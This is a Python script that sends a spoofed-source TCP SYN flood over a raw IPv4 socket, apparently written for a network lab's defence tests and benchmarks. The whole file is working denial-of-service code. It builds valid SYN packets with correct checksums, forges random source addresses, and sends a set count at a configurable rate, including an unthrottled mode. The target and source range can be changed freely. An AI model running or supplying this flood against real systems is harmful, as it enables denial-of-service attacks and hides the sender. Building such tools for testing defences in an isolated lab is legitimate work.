#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""A bounded SYN flood from spoofed random sources, for the lab's defence tests and
benchmarks (standard library only; root, run inside a lab namespace such as cli).

  synflood.py --dst A --port P --count N [--net CIDR] [--rate PPS] [--seed S]

Sends N TCP SYNs to A:P over a raw IPv4 socket (the kernel routes them; the lab has
rp_filter off), each from a random address of CIDR (default 198.18.0.0/15, the
benchmarking block, which no lab node owns) and a random port, at most PPS a second
(0: as fast as the loop goes). Prints "sent N seconds S".
"""
import argparse
import ipaddress
import random
import socket
import struct
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    """An IPv4 packet holding a TCP SYN with an MSS option, checksums right."""
    opts = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 6 << 4, 0x02, 64240, 0, 0) + opts
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000, 64, 6, 0, src, dst
    )
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--net", default="198.18.0.0/15")
    p.add_argument("--rate", type=float, default=0)
    p.add_argument("--seed", type=int, default=1)
    a = p.parse_args()
    random.seed(a.seed)
    net = ipaddress.ip_network(a.net)
    first, size = int(net.network_address), net.num_addresses
    dst = ipaddress.ip_address(a.dst).packed
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    for i in range(a.count):
        src = struct.pack("!I", first + random.randrange(1, size - 1))
        pkt = syn(src, dst, random.randrange(1024, 65536), a.port, random.getrandbits(32))
        s.sendto(pkt, (a.dst, 0))
        if a.rate:
            due = start + (i + 1) / a.rate
            delay = due - time.monotonic()
            if delay > 0:
                time.sleep(delay)
    print("sent %d seconds %.2f" % (a.count, time.monotonic() - start))


if __name__ == "__main__":
    main()
